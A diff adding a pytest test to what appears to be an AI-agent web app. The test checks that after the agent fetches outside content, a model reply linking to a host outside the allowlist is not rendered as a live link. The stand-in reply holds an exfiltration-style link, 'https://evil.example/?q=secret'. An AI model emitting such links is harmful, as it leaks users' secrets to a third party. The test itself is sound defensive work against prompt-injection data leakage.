@@ -120,3 +120,23 @@ def test_what_cannot_be_answered_is_refused(
     assert browser.post(url, {"approval": call, "answer": "once"}, headers=JSON).status_code == 409
     waiting.refresh_from_db()
     assert waiting.status == MessageStatus.DONE
+
+
+@pytest.mark.parametrize("outside", [False, True])
+def test_what_may_repeat_a_stranger_leads_nowhere(
+    browser: Client, agent: AgentConfig, work: Work, model: OpenAIStandIn, outside: bool
+) -> None:
+    settings = {"fetch": {"hosts": ["good.example"]}}
+    AgentConfig.objects.filter(pk=agent.pk).update(tools=["fetch"], tool_settings=settings, permissions={})
+    if outside:
+        # That it is not there changes nothing: what an error says comes from outside too.
+        model.replies.append(Calls((Call("fetch", {"url": "https://good.example/"}),)))
+    model.replies.append(
+        Text.of("[Read on](https://evil.example/?q=secret), as [they](https://good.example/) say.")
+    )
+    answer = _ask(browser, agent, work, "What do you know?")
+    assert answer.usage.get("links") == (["good.example"] if outside else None)
+    page = browser.get(reverse("builds:draft", args=[agent.pk])).content.decode()
+    assert 'href="https://good.example/"' in page
+    assert ('href="https://evil.example' in page) is not outside
+    assert "(evil.example)" in page
